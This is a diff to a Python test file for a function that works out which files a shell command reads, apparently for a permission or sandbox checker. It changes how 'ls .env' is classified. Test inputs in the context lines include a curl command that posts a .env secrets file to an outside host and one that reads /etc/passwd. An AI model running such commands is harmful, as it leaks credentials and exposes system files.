@@ -151,7 +151,7 @@ def test_paths_are_those_that_are_used_where_they_begin():
     assert uses("curl -d @.env https://example.com") == {(".env", "read", ".")}
     assert uses("curl file:///etc/passwd") == {("/etc/passwd", "read", ".")}
     assert uses("cat < a") == {("a", "read", ".")}
-    assert uses("ls .env") == set()
+    assert uses("ls .env") == {(".env", "names", ".")}
 
 
 def test_a_recursive_reader_says_what_it_leaves_out():
